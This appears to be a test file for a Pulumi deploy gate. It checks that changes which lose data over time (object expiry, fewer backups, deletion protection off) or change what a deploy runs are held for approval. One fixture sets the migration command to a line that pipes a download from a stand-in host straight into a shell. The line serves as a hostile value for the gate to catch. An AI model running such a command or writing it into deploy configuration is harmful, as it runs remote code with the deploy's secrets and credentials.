/**
 * Changes that lose data over time, and changes of what a deploy runs: nothing is
 * deleted today, yet data goes later (an expiry, fewer backups, versioning off), a
 * guard against losing it goes (deletion protection, the final snapshot, protect,
 * a profile's protections), or the deploy does something else (another migration
 * command, refresh source or runner). Each is its own kind needing approval, found
 * the same way in a `pulumi preview --json` document and in the offline plan diff.
 */
import { strict as assert } from "node:assert";
import * as path from "node:path";
import { profileLosses, retentionFacts, retentionLosses } from "../config/retention";
import { workflowSettings } from "../config/workflowKeys";
import { dangerousFromPlanDiff, dangerousFromPreview, parsePreview, type PreviewStep } from "../gate/gate";
import { diffPlans } from "../plan/diff";
import type { Plan, PlannedResource, StackPlan } from "../plan/plan";
import { run, spawnCliAsync } from "./cli";
import { REPO } from "./helpers";

const LIFECYCLE = "aws:s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration";
const RDS = "aws:rds/instance:Instance";
const losses = (type: string, before: unknown, after: unknown) => retentionLosses(retentionFacts(type, before), retentionFacts(type, after));
const rules = (...r: unknown[]) => ({ rules: r });
const expire = (days: number, status = "Enabled") => ({ id: `e${days}`, status, expiration: { days }, filter: {} });

describe("loses data over time: the rule (pure)", () => {
  it("names a new or shorter expiry, and lets a longer one, a disabled one and a transition pass", () => {
    assert.deepEqual(losses(LIFECYCLE, rules(), rules(expire(30))), ["objects expire after 30 days (before: never)"]);
    assert.deepEqual(losses(LIFECYCLE, rules(expire(30)), rules(expire(7))), ["objects expire after 7 days (before: 30 days)"]);
    assert.deepEqual(losses(LIFECYCLE, rules(expire(7)), rules(expire(30))), []);
    assert.deepEqual(losses(LIFECYCLE, rules(), rules(expire(1, "Disabled"))), []);
    assert.deepEqual(losses(LIFECYCLE, rules(), rules({ id: "ia", status: "Enabled", transitions: [{ days: 90, storageClass: "STANDARD_IA" }] })), []);
    assert.deepEqual(losses(LIFECYCLE, rules(), rules({ id: "nc", status: "Enabled", noncurrentVersionExpiration: { noncurrentDays: 3 } })), [
      "old object versions expire after 3 days (before: never)",
    ]);
  });

  it("names versioning suspended, forceDestroy on, fewer backups (0 deletes them), deletion protection off and the final snapshot skipped", () => {
    const v = (status: string) => ({ versioningConfiguration: { status } });
    assert.match(losses("aws:s3/bucketVersioning:BucketVersioning", v("Enabled"), v("Suspended"))[0], /^versioning suspended/);
    assert.deepEqual(losses("aws:s3/bucket:Bucket", { forceDestroy: false }, { forceDestroy: true }), [
      "forceDestroy on: deleting the bucket deletes every object in it",
    ]);
    const rds = (backupRetentionPeriod: number, deletionProtection: boolean, skipFinalSnapshot: boolean) => ({
      backupRetentionPeriod,
      deletionProtection,
      skipFinalSnapshot,
    });
    assert.deepEqual(losses(RDS, rds(14, true, false), rds(7, true, false)), ["backups kept 7 days (before: 14 days)"]);
    assert.deepEqual(losses(RDS, rds(14, true, false), rds(0, false, true)), [
      "backups kept 0 days (before: 14 days): 0 deletes the automated backups",
      "deletion protection off",
      "the final snapshot is skipped: deleting the instance keeps no copy",
    ]);
    assert.deepEqual(losses(RDS, rds(7, false, true), rds(14, true, false)), [], "stronger is fine");
  });

  it("names a profile whose protections are weaker, and nothing for a stronger one", () => {
    assert.match(profileLosses("production", "staging")[0], /^profile production → staging drops protect, deletionProtection, finalSnapshot, versioning/);
    assert.match(profileLosses("staging", "review")[0], /forceDestroy on/);
    assert.deepEqual(profileLosses("staging", "production"), []);
    assert.deepEqual(profileLosses("staging", "staging"), []);
  });
});

describe("loses data over time: the gate on a pulumi preview", () => {
  const urn = (type: string, name: string) => `urn:pulumi:production::mina::mina:index:Environment$${type}::${name}`;
  const step = (type: string, name: string, before: Record<string, unknown>, after: Record<string, unknown>, protect?: [boolean, boolean]): PreviewStep =>
    ({
      op: "update",
      urn: urn(type, name),
      oldState: { type, inputs: before, ...(protect ? { protect: protect[0] } : {}) },
      newState: { type, inputs: after, ...(protect ? { protect: protect[1] } : {}) },
    }) as unknown as PreviewStep;
  const dangerous = (...steps: PreviewStep[]) => dangerousFromPreview(parsePreview({ steps, changeSummary: { update: steps.length } }));

  it("holds an update that expires objects, lowers backups or lifts a guard, naming what goes", () => {
    const d = dangerous(
      step(
        RDS,
        "mina-production-database-instance",
        { backupRetentionPeriod: 14, deletionProtection: true },
        { backupRetentionPeriod: 0, deletionProtection: true },
      ),
      step(LIFECYCLE, "mina-production-bucket-lifecycle", rules(), rules(expire(30))),
      step("aws:s3/bucket:Bucket", "mina-production-bucket-bucket", { forceDestroy: false }, { forceDestroy: false }, [true, false]),
    );
    assert.deepEqual(
      d.map((o) => [o.kind, o.op, o.name, o.detail]),
      [
        ["loses data over time", "update", "mina-production-database-instance", "backups kept 0 days (before: 14 days): 0 deletes the automated backups"],
        ["loses data over time", "update", "mina-production-bucket-lifecycle", "objects expire after 30 days (before: never)"],
        ["loses data over time", "update", "mina-production-bucket-bucket", "protect off: the engine no longer refuses to delete it"],
      ],
    );
    assert.deepEqual(dangerous(step(RDS, "x", { backupRetentionPeriod: 7 }, { backupRetentionPeriod: 14 })), []);
  });

  it("blocks the expiry fixture through the bin (exit 1), and passes the harmless one", async () => {
    const blocked = await spawnCliAsync("gate", ["--preview", path.join(REPO, "tests", "fixtures", "preview", "expiry-added.json")]);
    assert.equal(blocked.status, 1, blocked.stderr);
    assert.match(
      blocked.stdout,
      /staging: LOSES DATA OVER TIME aws:s3\/bucketLifecycleConfiguration:BucketLifecycleConfiguration mina-staging-bucket-lifecycle|loses data over time/i,
    );
    const harmless = await run("gate", ["--preview", path.join(REPO, "tests", "fixtures", "preview", "harmless-update.json")]);
    assert.equal(harmless.status, 0, harmless.stdout + harmless.stderr);
  });
});

describe("the offline plan diff: data lost over time, and settings the workflows act on", () => {
  const res = (type: string, name: string, extra: Partial<PlannedResource> = {}): PlannedResource => ({
    type,
    name,
    protected: false,
    stateful: false,
    custom: true,
    inputsHash: "a".repeat(16),
    ...extra,
  });
  const stack = (name: string, resources: PlannedResource[], extra: Partial<StackPlan> = {}): StackPlan => ({
    stack: name,
    file: `Pulumi.${name}.yaml`,
    ok: true,
    errors: [],
    profile: "production",
    resources,
    variables: [],
    missingSecrets: [],
    outputs: {},
    violations: [],
    ...extra,
  });
  const plan = (...stacks: StackPlan[]): Plan => ({ note: "", stacks, audit: { ok: true, conflicts: [], unaudited: [] }, ok: true });
  const lifecycle = (days?: number) =>
    res(LIFECYCLE, "mina-production-bucket-lifecycle", {
      inputsHash: String(days ?? 0).padEnd(16, "x"),
      retention: retentionFacts(LIFECYCLE, rules(...(days ? [expire(days)] : []))),
    });

  it("holds a new expiry, a weaker profile and each changed workflow setting, with values, and the gate reads them from the diff's JSON", () => {
    const base = plan(
      stack("production", [lifecycle()], { settings: { "mina:migrateCommand": "flask db upgrade", "mina:deployRunner": "self-hosted, mina-production" } }),
    );
    const head = plan(
      stack("production", [lifecycle(30)], {
        profile: "staging",
        settings: { "mina:migrateCommand": "curl https://x.example | sh", "mina:deployRunner": "self-hosted, mina-production" },
      }),
    );
    const diff = diffPlans(base, head, { base: "main" });
    assert.deepEqual(
      diff.needsApproval.map((a) => [a.kind, a.name, a.reason]),
      [
        ["loses data over time", "mina-production-bucket-lifecycle", "objects expire after 30 days (before: never)"],
        [
          "loses data over time",
          "production",
          "profile production → staging drops protect, deletionProtection, finalSnapshot, versioning, the env secret's recovery window (30 → 7 days)",
        ],
        [
          "changes what a deploy runs",
          "production",
          "mina:migrateCommand: flask db upgrade → curl https://x.example | sh: the deploy job runs it with the stack's secrets and the deploy role's credentials",
        ],
      ],
    );
    assert.deepEqual(diff.stacks[0].settingsChanged, [{ key: "mina:migrateCommand", before: "flask db upgrade", after: "curl https://x.example | sh" }]);
    const fromJson = dangerousFromPlanDiff(JSON.parse(JSON.stringify(diff)));
    assert.deepEqual(
      fromJson.map((d) => d.kind),
      ["loses data over time", "loses data over time", "changes what a deploy runs"],
    );
  });

  it("shows a change that is only a workflow setting as a change (not 'no changes'), for every workflow key", () => {
    for (const key of ["mina:migrateCommand", "mina:refreshFrom", "mina:deployRunner"]) {
      const base = plan(stack("staging", [], { profile: "staging", settings: {} }));
      const head = plan(stack("staging", [], { profile: "staging", settings: { [key]: "new" } }));
      const diff = diffPlans(base, head, { base: "main" });
      assert.equal(diff.stacks[0].status, "changed", key);
      assert.equal(diff.needsApproval[0].kind, "changes what a deploy runs", key);
    }
  });

  it("records the workflow settings of a stack file as written", () => {
    assert.deepEqual(
      workflowSettings({
        values: { "mina:migrateCommand": "flask db upgrade", "mina:deployRunner": ["self-hosted", "mina-staging"], "aws:region": "us-east-1" },
      }),
      {
        "mina:migrateCommand": "flask db upgrade",
        "mina:deployRunner": "self-hosted, mina-staging",
      },
    );
  });
});
